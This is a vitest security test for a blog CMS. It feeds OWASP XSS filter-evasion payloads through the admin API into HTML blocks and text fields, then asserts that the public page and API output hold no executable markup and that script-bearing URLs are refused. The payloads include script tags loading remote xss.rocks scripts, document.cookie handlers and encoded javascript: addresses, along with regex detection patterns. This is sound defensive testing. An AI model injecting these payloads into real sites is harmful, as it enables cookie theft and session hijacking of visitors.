// Stored HTML cannot carry script (issue 7): the OWASP XSS filter-evasion cheat sheet's vectors go in
// through the console API as the superadmin would send them — into every HTML block type, and into the
// post's plain-text and address fields — and the public page and the site API answer are searched for
// anything that would run: a script element, an event handler, a script-bearing address, a frame, an
// object, a style element or a base or refresh that would hijack the page.
import type { FastifyInstance } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestApp } from "./support/app.ts";
import type { Browser } from "./support/browser.ts";
import { demoSession } from "./support/demo-session.ts";

/** From https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html (and friends). */
const VECTORS = [
  "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  "<a onmouseover=alert(document.cookie)>xxs link</a>",
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
  "<IMG SRC=# onmouseover=\"alert('xxs')\">",
  "<IMG SRC= onmouseover=\"alert('xxs')\">",
  "<IMG onmouseover=\"alert('xxs')\">",
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
  "<SCRIPT SRC=//xss.rocks/.j>",
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  "<iframe src=http://xss.rocks/scriptlet.html <",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
  "<IMG DYNSRC=\"javascript:alert('XSS')\">",
  "<IMG LOWSRC=\"javascript:alert('XSS')\">",
  "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
  "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
  "<svg/onload=alert('XSS')>",
  "<BODY ONLOAD=alert('XSS')>",
  "<BGSOUND SRC=\"javascript:alert('XSS');\">",
  "<BR SIZE=\"&{alert('XSS')}\">",
  "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
  "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
  "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
  "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
  "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
  "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
  "<XSS STYLE=\"behavior: url(xss.htc);\">",
  "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
  "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
  "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
  "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
  "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
  "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
  "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
  "<DIV STYLE=\"width: expression(alert('XSS'));\">",
  "<BASE HREF=\"javascript:alert('XSS');//\">",
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>',
  '<A HREF="javascript:document.location=\'http://www.google.com/\'">XSS</A>',
  '<a href="jav&#x61;script:alert(1)">entity</a>',
  '<a href="&#x6a;avascript:alert(1)">entity2</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="  javascript:alert(1)">space</a>',
  '<a href="java\0script:alert(1)">nul</a>',
  "<form action=javascript:alert(1)><input type=submit></form>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=\"alert(1)\"></video>",
  "<audio src=x onerror=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<template><script>alert(1)</script></template>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  "<marquee onstart=alert(1)>",
  "<isindex type=image src=1 onerror=alert(1)>",
  '<object data="javascript:alert(1)">',
  "<x onclick=alert(1)>click",
  "\"><script>alert(1)</script>",
  "'--><script>alert(1)</script>",
];

const HTML_BLOCKS = ["p", "h2", "h3", "ul", "ol", "li", "blockquote", "code", "pre", "div", "span", "strong", "em", "u", "a"] as const;

let app: FastifyInstance;
let superadmin: Browser;
let authorId: number;
beforeAll(async () => {
  app = await createTestApp({ web: "production" });
  superadmin = await demoSession(app, "S");
  authorId = (await superadmin.get("/api/v1/admin/authors")).json().data[0].id;
});
afterAll(() => app.close());

/** Markup in a page or answer that would run script or take the page over. */
function dangerous(html: string): string[] {
  const found: string[] = [];
  const checks: [string, RegExp][] = [
    ["a script element without our nonce", /<script\b(?![^>]*\bnonce=)(?![^>]*type="application\/ld\+json")[^>]*>/i],
    ["an event handler attribute", /<[a-z][^>]*\s(on[a-z]+)\s*=/i],
    ["a javascript:, vbscript: or data:text address", /(?:href|src|action|data|background|dynsrc|lowsrc|formaction|xlink:href)\s*=\s*["'`]?\s*(?:javascript|vbscript|data:text)/i],
    ["a frame, object, embed, applet or form", /<(?:iframe|frame|frameset|object|embed|applet|form|isindex)\b/i],
    ["a style element or attribute in stored content", /<style\b|\bstyle\s*=\s*["'][^"']*(?:expression|url\s*\(|behavior|binding)/i],
    ["a base, meta refresh or link to a stylesheet elsewhere", /<base\b|http-equiv\s*=\s*["']?refresh|<link[^>]+href\s*=\s*["']?(?:javascript|https?:\/\/xss)/i],
    ["an svg or math element", /<(?:svg|math)\b/i],
  ];
  for (const [what, pattern] of checks) if (pattern.test(html)) found.push(`${what}: ${pattern.exec(html)?.[0].slice(0, 120)}`);
  return found;
}

describe("the OWASP XSS filter-evasion vectors, through the console", () => {
  it(`are stored harmless in every HTML block type (${VECTORS.length} vectors), and the public page and API carry none`, async () => {
    const slug = `owasp-xss-${Date.now().toString(36)}`;
    const blocks = VECTORS.map((html, i) => ({ block_type: HTML_BLOCKS[i % HTML_BLOCKS.length]!, block_content: `${html} marker-${i}` }));
    const created = await superadmin.send("POST", "/api/v1/admin/posts", {
      product: "VETAN",
      slug,
      title: "<script>alert('title')</script> Payroll and XSS",
      excerpt: "\"><img src=x onerror=alert('excerpt')> excerpt",
      author_id: authorId,
      status: "published",
      keyword: "<svg onload=alert('kw')>, payroll",
      tag: "<script>alert('tag')</script>",
      image_url: "/images/blog/payslip-anatomy.svg",
      image_alt: "\" onerror=\"alert('alt')",
      image_title: "'><script>alert('t')</script>",
      image_desc: "<iframe src=javascript:alert(1)>",
      seo_title: "</title><script>alert('seo')</script>",
      seo_description: "\"><script>alert('desc')</script>",
      canonical_url: null,
      blocks,
    });
    expect(created.statusCode, created.body.slice(0, 500)).toBe(201);

    // What was stored, as the console and the site API give it back.
    const api = await app.inject({ method: "POST", url: "/blogapi/GetProductBlogBySlug", payload: { slug }, headers: { "content-type": "application/json" } });
    expect(api.statusCode).toBe(200);
    // The blocks are HTML (the API's other fields are plain text, which any consumer escapes).
    const storedBlocks: { block_content: string }[] = api.json().data[0].blocks;
    expect(storedBlocks).toHaveLength(VECTORS.length);
    storedBlocks.forEach((block, i) => {
      expect(dangerous(block.block_content), `vector ${i}: ${VECTORS[i]}`).toEqual([]);
    });
    // The words around an attack survive: the marker after each vector is kept, except where the vector
    // opens an element whose content is never text (an unclosed <script SRC=…<, say), as a browser would
    // read it too.
    const kept = storedBlocks.filter((block, i) => block.block_content.includes(`marker-${i}`)).length;
    expect(kept / VECTORS.length).toBeGreaterThan(0.85);

    // The public page as a visitor gets it.
    const page = await app.inject({ url: `/blog/${slug}`, headers: { accept: "text/html" } });
    expect(page.statusCode).toBe(200);
    // The rendered document outside scripts' data (attribute values and the loader data inside our own
    // nonce'd scripts hold these strings as escaped text, which is what must happen to them).
    const markup = page.body
      .replace(/<script\b[^>]*>[\s\S]*?<\/script>/gi, "<script nonce=\"ours\"></script>")
      .replace(/="[^"]*"/g, '=""');
    // Our own icons are inline SVG; inside the post's article there is none.
    const article = markup.slice(markup.indexOf("<article"), markup.lastIndexOf("</article>"));
    expect(article.length).toBeGreaterThan(1000);
    expect(dangerous(article)).toEqual([]);
    expect(dangerous(markup).filter((p) => !p.startsWith("an svg"))).toEqual([]);
    // The article itself holds every block's surviving text.
    expect(markup).toContain("marker-0");
    // Plain-text fields are text on the page and in its meta tags, escaped, never markup.
    expect(page.body).not.toContain("<script>alert(");
    expect(page.body).not.toContain("<img src=x");
    // No script on the page can run but ours: each one carries the response's CSP nonce or is JSON-LD.
    const nonce = /'nonce-([^']+)'/.exec(String(page.headers["content-security-policy"]))?.[1];
    for (const tag of page.body.match(/<script\b[^>]*>/gi) ?? []) {
      expect(tag.includes(`nonce="${nonce}"`) || tag.includes('type="application/ld+json"'), tag).toBe(true);
    }
  });

  it("refuses script-bearing addresses in the address fields with a field message", async () => {
    for (const [field, value] of [
      ["image_url", "javascript:alert(1)"],
      ["canonical_url", "javascript:alert(1)"],
      ["image_url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="],
      ["canonical_url", "vbscript:msgbox(1)"],
      ["image_url", "//evil.example/x.png"],
    ] as const) {
      const res = await superadmin.send("POST", "/api/v1/admin/posts", {
        product: "VETAN",
        slug: `owasp-url-${field.replace("_", "-")}-${Date.now().toString(36)}`,
        title: "Address check",
        excerpt: "Address check",
        author_id: authorId,
        status: "draft",
        blocks: [],
        [field]: value,
      });
      expect(res.statusCode, `${field}=${value}`).toBe(400);
      expect(Object.keys(res.json().errors ?? {}), `${field}=${value}`).toContain(field);
    }
  });
});
